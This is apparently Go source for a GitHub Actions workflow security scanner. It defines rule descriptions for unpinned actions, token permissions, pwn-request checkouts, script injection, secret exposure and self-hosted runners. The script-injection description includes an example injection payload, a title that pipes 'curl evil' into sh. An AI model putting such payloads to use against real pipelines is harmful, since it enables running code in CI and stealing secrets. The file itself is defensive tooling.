package workflows

import (
	"github.com/rhysd/actionlint"

	"github.com/threatmap/threatmap"
	"github.com/threatmap/threatmap/evidence"
)

// Rule ids.
const (
	RuleUnpinnedAction     = "unpinned-action"
	RuleMissingPermissions = "missing-permissions"
	RuleBroadPermissions   = "broad-permissions"
	RuleUntrustedCheckout  = "untrusted-checkout"
	RuleScriptInjection    = "script-injection"
	RuleSecretExposure     = "secret-exposure"
	RuleSelfHostedRunner   = "self-hosted-runner-public"
	RuleUnparsable         = "unparsable-workflow"
)

// RuleInfo describes a rule as plain data, for rule listings, SARIF help
// and documentation.
type RuleInfo struct {
	ID          string
	Title       string
	Description string
	// Severity is the rule's usual severity; some findings are raised or
	// lowered by context (the trigger, who owns an action).
	Severity threatmap.Severity
}

// Rules lists every rule the workflows scanner reports, in a fixed order.
func Rules() []RuleInfo {
	return []RuleInfo{
		{RuleUnpinnedAction, "Action not pinned to a full commit SHA",
			"A step or job uses an action or reusable workflow by branch or tag (aquasecurity/trivy-action@master). " +
				"Branches and tags move: whoever controls the action's repository, or steals its maintainer's token, " +
				"runs code in your pipeline with your secrets. Pin the full 40-character commit SHA and keep the tag in " +
				"a comment for updates. Branch references of third-party actions are high severity; tags of " +
				"GitHub-owned actions are low.", threatmap.High},
		{RuleMissingPermissions, "No permissions: block",
			"Neither the workflow nor the job sets permissions:, so GITHUB_TOKEN gets the repository's default, which " +
				"is read-write on repositories and organisations created before 2023. Set permissions: {} or " +
				"contents: read at the top and grant more per job.", threatmap.Medium},
		{RuleBroadPermissions, "Over-broad GITHUB_TOKEN permissions",
			"permissions: write-all, or write scopes granted to every job at the workflow level. Any step that is " +
				"compromised (an unpinned action, an injected script) can push code, publish packages or mint OIDC " +
				"tokens. Grant write scopes only to the job that needs them.", threatmap.Medium},
		{RuleUntrustedCheckout, "Privileged trigger checks out untrusted code",
			"A pull_request_target or workflow_run workflow checks out the pull request's head. Those triggers run " +
				"with the base repository's secrets and a write token, so building or testing the checked-out code " +
				"lets any outside contributor run commands with them (a \"pwn request\"). Use pull_request for " +
				"untrusted code, or split the privileged part into a separate workflow that never executes it.", threatmap.Critical},
		{RuleScriptInjection, "Script injection from attacker-controlled context",
			"A run: script (or actions/github-script) interpolates ${{ }} values an outsider controls: issue and pull " +
				"request titles and bodies, comment bodies, branch names, commit messages. The value is pasted into the " +
				"script before the shell runs, so a title like `a\"; curl evil | sh; \"` executes. Pass the value " +
				"through env: and use \"$VAR\" in the script.", threatmap.High},
		{RuleSecretExposure, "Secret echoed or passed to an untrusted step",
			"A secret is printed by a run: step (log masking is best effort and fails on transformed values), passed " +
				"to a third-party action that is not pinned to a commit, or inherited by a reusable workflow from " +
				"another repository that is not pinned. Keep secrets out of logs and give them only to pinned, " +
				"reviewed code.", threatmap.High},
		{RuleSelfHostedRunner, "Self-hosted runner on a public trigger",
			"A job runs on a self-hosted runner for a trigger outsiders can fire (pull_request, issue_comment, ...). " +
				"Self-hosted runners are not ephemeral by default: a fork's code can persist on the machine and reach " +
				"the network it sits in. Use GitHub-hosted or ephemeral, isolated runners for public triggers.", threatmap.High},
		{RuleUnparsable, "Workflow that cannot be parsed",
			"A workflow file is not valid YAML or not a workflow, so it was not audited. The finding names the " +
				"position of the problem.", threatmap.Low},
	}
}

func ruleSeverity(id string) threatmap.Severity {
	for _, r := range Rules() {
		if r.ID == id {
			return r.Severity
		}
	}
	return threatmap.Medium
}

// check is one rule's logic over a parsed workflow.
type check func(w *Workflow) []evidence.Finding

// checks is the explicit list of checks every workflow goes through.
var checks = []check{
	checkUnpinnedActions,
	checkPermissions,
	checkUntrustedCheckout,
	checkScriptInjection,
	checkSecretExposure,
	checkSelfHostedRunner,
}

// finding builds a finding at a node's position.
func (w *Workflow) finding(rule string, sev threatmap.Severity, pos *actionlint.Pos, job *actionlint.Job, prop evidence.Property, msg string) evidence.Finding {
	p := orPos(pos)
	f := evidence.Finding{
		Scanner: ScannerName, Rule: rule, Severity: sev, Message: msg,
		File: w.File, Line: p.Line, Column: p.Col, Property: prop,
	}
	if job != nil {
		f.Resource = w.File + "#jobs." + jobID(job)
	} else {
		f.Resource = w.File
	}
	return f
}
